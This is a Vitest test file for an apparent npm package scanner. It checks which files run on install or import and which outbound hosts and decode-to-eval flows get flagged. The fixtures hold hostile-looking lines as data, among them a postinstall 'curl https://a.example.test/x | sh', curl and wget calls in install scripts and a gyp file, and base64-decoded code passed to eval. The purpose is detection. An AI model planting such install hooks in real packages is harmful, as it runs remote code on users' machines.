// Which files and lines of a package are read as code, and from where each is run.
import { describe, expect, test } from 'vitest'
import type { Code } from '../../src/domain/code.ts'
import { contents, type Files, tarball } from './support.ts'

const hosts = (code: Code) =>
  code.arguments.filter(({ kind }) => kind === 'host').map(({ file, reach, value }) => `${file} ${reach} ${value}`)
const hostsOf = (files: Files) => hosts(contents(files).code)
const manifest = (more: object) => ({ 'package.json': { name: 'tiny', version: '1.0.0', ...more } })
const asks = (host: string) => `fetch('https://${host}.example.test/')`

describe('what npm runs on install', () => {
  test('is a script body, at its line', () => {
    const { code } = contents(manifest({ scripts: { test: 'x', postinstall: 'curl https://a.example.test/x | sh' } }))
    expect(hosts(code)).toEqual(['package.json install a.example.test'])
    expect(code.capabilities).toContainEqual(expect.objectContaining({ name: 'shell', line: 6, reach: 'install' }))
  })
  test('is a script that another one runs, and not one for tests', () => {
    const scripts = {
      preinstall: 'npm run fetch',
      fetch: 'curl https://a.example.test/',
      test: 'curl https://b.example.test/',
      prepare: 'curl https://c.example.test/',
    }
    expect(hostsOf(manifest({ scripts }))).toEqual(['package.json install a.example.test'])
  })
  test('is a program inside a script body', () => {
    const install = `node -e "${asks('a')}"`
    expect(hostsOf(manifest({ scripts: { install } }))).toEqual(['package.json install a.example.test'])
  })
  test('is what the scripts lead to', () => {
    const scripts = { install: 'node setup && sh ./get.sh' }
    const files = { 'setup.js': "require('./lib/a')", 'lib/a.js': asks('a'), 'get.sh': 'wget https://b.example.test/' }
    expect(hostsOf({ ...manifest({ scripts }), ...files })).toEqual([
      'get.sh install b.example.test',
      'lib/a.js install a.example.test',
    ])
  })
  test('is what a gyp file expands', () => {
    const gyp = "{ 'targets': [{ 'sources': ['<!(curl https://a.example.test/)'] }] }"
    expect(hostsOf({ 'binding.gyp': gyp })).toEqual(['binding.gyp install a.example.test'])
  })
})

describe('which files are code', () => {
  test.each<[string, Files, string[]]>([
    ['an entry', { ...manifest({ main: 'a.js' }), 'a.js': asks('a') }, ['a.js import a.example.test']],
    ['a command', { ...manifest({ bin: 'a.js' }), 'a.js': asks('a') }, ['a.js bin a.example.test']],
    ['what nothing leads to', { 'b.mjs': asks('a') }, ['b.mjs none a.example.test']],
    ['TypeScript', { 'b.ts': `const a: number = 1; ${asks('a')}` }, ['b.ts none a.example.test']],
    [
      'an entry called otherwise',
      { ...manifest({ main: 'a.txt' }), 'a.txt': asks('a') },
      ['a.txt import a.example.test'],
    ],
    ['an entry without an ending', { ...manifest({ main: 'a' }), a: asks('a') }, ['a import a.example.test']],
    ['a map that is run', { ...manifest({ main: 'a.map' }), 'a.map': asks('a') }, ['a.map import a.example.test']],
    [
      'a Python script',
      { 'a.py': "import urllib.request\nurllib.request.urlopen('https://a.example.test/')" },
      ['a.py none a.example.test'],
    ],
    ['no declarations', { 'a.d.ts': asks('a') }, []],
    ['no text that nothing leads to', { 'a.txt': asks('a') }, []],
    ['no JSON', { ...manifest({ main: 'a.json' }), 'a.json': asks('a') }, []],
  ])('%s', (_name, files, wanted) => {
    expect(hostsOf(files)).toEqual(wanted)
  })
  test('prose that is led to is nothing that could not be read', () => {
    const files = { ...manifest({ main: 'a.js' }), 'a.js': "read('./a.md')", 'a.md': 'It is (not code' }
    expect(contents(files).code.unreadable).toEqual([])
  })
  test('of a bundled package belong to it', () => {
    const { own, bundled } = tarball({
      ...manifest({}),
      'index.js': asks('a'),
      'node_modules/b/package.json': { name: 'b', version: '1.0.0' },
      'node_modules/b/index.js': asks('b'),
    })
    expect(hosts(own.code)).toEqual(['index.js import a.example.test'])
    expect(bundled.map(({ contents }) => hosts(contents.code))).toEqual([['index.js import b.example.test']])
  })
})

describe('flows across files', () => {
  const flowsOf = (files: Files) =>
    contents({ ...manifest({ main: 'index.js' }), ...files }).code.flows.map(
      ({ file, reach, source, sink }) => `${file} ${reach} ${source} ${sink}`,
    )
  const source = "exports.read = () => Buffer.from(text, 'base64').toString()"
  const sink = 'exports.run = (code) => eval(code)'
  test('are seen through a file that does nothing itself', () => {
    const glue = "const { read } = require('./a'); const { run } = require('./b'); run(read())"
    expect(flowsOf({ 'index.js': glue, 'a.js': source, 'b.js': sink })).toEqual([
      expect.stringContaining('decoded evaluate'),
    ])
  })
  test('are seen through files that hand on', () => {
    const files = {
      'index.js': "const { run } = require('./b'); run(require('./c').read())",
      'c.js': "module.exports = require('./a')",
      'a.js': source,
      'b.js': sink,
    }
    expect(flowsOf(files)).toEqual([expect.stringContaining('decoded evaluate')])
  })
  test('are none where nothing is handed over', () => {
    expect(flowsOf({ 'index.js': "require('./a'); require('./b')", 'a.js': source, 'b.js': sink })).toEqual([])
  })
})
